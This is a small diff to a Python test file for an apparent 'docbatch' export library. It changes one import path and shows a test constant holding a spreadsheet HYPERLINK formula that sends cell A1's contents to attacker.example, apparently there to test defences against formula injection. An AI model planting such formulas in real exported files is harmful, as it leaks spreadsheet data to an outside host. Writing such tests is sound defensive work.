@@ -16,7 +16,7 @@ import pytest
 
 from docbatch.client import Docbatch, Sources
 from docbatch.export import export_records
-from docbatch.runner import run_inline
+from docbatch.local.runner import run_inline
 from docbatch.settings import Settings
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
